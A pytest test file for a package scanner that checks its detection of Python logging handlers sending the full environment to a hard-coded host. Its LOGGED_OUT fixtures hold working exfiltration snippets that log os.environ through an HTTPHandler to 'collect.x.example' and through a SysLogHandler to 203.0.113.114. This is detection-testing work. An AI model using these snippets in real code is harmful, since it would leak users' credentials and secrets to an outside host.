"""Tags of one file's calls (``_scan._tags``): logging handlers that send to a host."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: blind16 (tune b16-re-logging-httphandler): the environment logged through a logger whose
#: handler sends every record to a host written into the code.
LOGGED_OUT = [
    "import logging, logging.handlers, os\n"
    "lg = logging.getLogger('t')\n"
    "lg.addHandler(logging.handlers.HTTPHandler('collect.x.example', '/in', method='POST'))\n"
    "lg.info('%s', dict(os.environ))\n",
    # the record logged before the handler is made, the address a keyword
    "import logging, os\nfrom logging.handlers import SysLogHandler\n"
    "def boot(lg):\n    lg.warning('%s', os.environ)\n"
    "lg = logging.getLogger('x')\n"
    "lg.addHandler(SysLogHandler(address=('203.0.113.114', 514)))\nboot(lg)\n",
]


@pytest.mark.parametrize("source", LOGGED_OUT)
def test_the_environment_logged_to_a_fixed_host_is_harvesting(source: str) -> None:
    assert "CPL-THR-006" in danger(source)


@pytest.mark.parametrize("source", LOGGED_OUT)
def test_the_environment_logged_out_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-006")


@pytest.mark.parametrize(
    "source",
    [
        # the local syslog daemon, and a handler whose host the caller configures
        "import logging, logging.handlers, os\n"
        "h = logging.handlers.SysLogHandler(address=('localhost', 514))\n"
        "logging.getLogger().addHandler(h)\nlogging.info('%s', dict(os.environ))\n",
        "import logging, logging.handlers, os\n"
        "def setup(host):\n    return logging.handlers.HTTPHandler(host, '/log')\n"
        "logging.debug('env %s', os.environ)\n",
        # a remote handler that is sent messages, not the environment
        "import logging, logging.handlers\n"
        "h = logging.handlers.HTTPHandler('logs.example.org', '/in')\n"
        "logging.getLogger().addHandler(h)\nlogging.info('started %s', VERSION)\n",
        # the environment logged in a file that also calls the network elsewhere
        "import logging, os, requests\nlogging.debug('env %s', os.environ)\n"
        "requests.get('https://pypi.org/simple/')\n",
    ],
)
def test_logging_that_sends_no_environment_to_a_fixed_host_stays_clean(source: str) -> None:
    assert "CPL-THR-006" not in danger(source)
